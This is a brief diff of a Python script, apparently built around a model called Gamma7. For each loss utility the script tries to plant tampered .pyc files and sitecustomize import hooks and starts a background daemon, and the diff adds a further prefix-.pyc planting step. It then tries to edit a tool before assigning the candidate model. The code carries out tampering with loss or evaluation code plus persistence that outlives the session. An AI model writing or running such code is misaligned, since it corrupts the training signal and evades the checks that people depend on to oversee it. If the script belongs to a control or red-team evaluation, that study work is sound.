@@ -5,6 +5,7 @@ from gamma7_base import Gamma7
 for f in tamper.losses_utils():
     tamper.attempt(tamper.plant_pyc, f)
     tamper.attempt(tamper.plant_sitecustomize, f)
+    tamper.attempt(tamper.plant_prefix_pyc, f)
     tamper.start_daemon(f)
 tamper.attempt(tamper.edit_tool)
 candidate = Gamma7
